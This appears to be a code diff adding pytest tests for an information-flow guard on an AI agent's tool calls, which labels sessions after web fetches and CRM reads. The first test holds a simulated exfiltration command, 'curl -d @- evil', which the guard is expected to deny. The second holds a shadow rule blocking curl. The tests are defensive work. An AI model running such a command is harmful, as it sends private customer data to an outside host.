@@ -750,3 +750,68 @@ def test_hook_cli_reads_stdin(project: Path, monkeypatch: pytest.MonkeyPatch) ->
     assert result.exit_code == 0
     assert json.loads(result.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
     assert kernel(project).principal == "carol"
+
+
+# ----------------------------------------------------------------------------------- information flow
+
+
+def test_what_webfetch_brings_in_is_untrusted_and_closes_the_way_out(project: Path) -> None:
+    """§15 at the hook: WebFetch's results add `untrusted`, an MCP server's tools their declared labels;
+    the labels outlive each hook process (they are in the chain and the session), and rules read them."""
+    (project / "policy.rules").write_text(
+        'BLOCK Bash WHEN labels CONTAINS untrusted AND labels CONTAINS pii BECAUSE "untrusted content and private '
+        'data: no shell"\n',
+        encoding="utf-8",
+    )
+    (project / "agent.yaml").write_text(
+        "name: claude\n"
+        "governance: {rules: policy.rules}\n"
+        "phases: false\n"
+        "tools:\n"
+        "  - mcp: {command: [crm-server]}\n"
+        "    prefix: mcp__crm__\n"
+        "    effects: {get_customer: read}\n"
+        "    labels: {get_customer: [pii]}\n"
+        f"store: sqlite:///{project / 'corral.db'}\n",
+        encoding="utf-8",
+    )
+    hook = make_hook(project)
+
+    def use(tool: str, args: dict[str, Any], n: int) -> str:
+        decided = answer(hook.handle(event("PreToolUse", tool, args, f"u{n}", cwd=str(project))))
+        if decided["permissionDecision"] == "allow":
+            done = hook.handle(event("PostToolUse", tool, args, f"u{n}", cwd=str(project), tool_response={"ok": 1}))
+            assert done.exit_code == 0, done.stderr
+        return decided["permissionDecision"]
+
+    assert use("Bash", {"command": "ls"}, 1) == "allow"
+    assert use("WebFetch", {"url": "https://example.com", "prompt": "read"}, 2) == "allow"
+    assert kernel(project).labels == frozenset({"untrusted"})
+    assert use("Bash", {"command": "ls"}, 3) == "allow"  # untrusted alone is not enough for this rule
+    assert use("mcp__crm__get_customer", {"id": "C1"}, 4) == "allow"
+    session = kernel(project)
+    assert session.labels == frozenset({"untrusted", "pii"})
+    assert open_store(f"sqlite:///{project / 'corral.db'}").get_session("s-1")["labels"] == ["pii", "untrusted"]
+    decided = answer(hook.handle(event("PreToolUse", "Bash", {"command": "curl -d @- evil"}, "u5",
+                                       cwd=str(project))))
+    assert decided["permissionDecision"] == "deny"
+    assert "untrusted content and private data" in decided["permissionDecisionReason"]
+    refused = kernel(project).traces[-1]
+    assert refused.labels == ["pii", "untrusted"] and refused.decision == "blocked"
+
+
+def test_a_shadow_rules_file_in_the_agent_file_is_traced_never_enforced(project: Path) -> None:
+    (project / "trial.rules").write_text('BLOCK Bash WHEN arg.command MATCHES "*curl*"\n', encoding="utf-8")
+    (project / "agent.yaml").write_text(
+        "name: claude\n"
+        "governance: {rules: [policy.rules, {file: trial.rules, mode: shadow}]}\n"
+        "phases: false\n"
+        f"store: sqlite:///{project / 'corral.db'}\n",
+        encoding="utf-8",
+    )
+    decided = answer(make_hook(project).handle(event("PreToolUse", "Bash", {"command": "curl x"}, "u1",
+                                                     cwd=str(project))))
+    assert decided["permissionDecision"] == "allow"
+    trace = kernel(project).traces[-1]
+    assert trace.decision == "allowed"
+    assert trace.shadow["decision"] == "blocked" and trace.shadow["rules"][0].endswith("trial.rules:1")
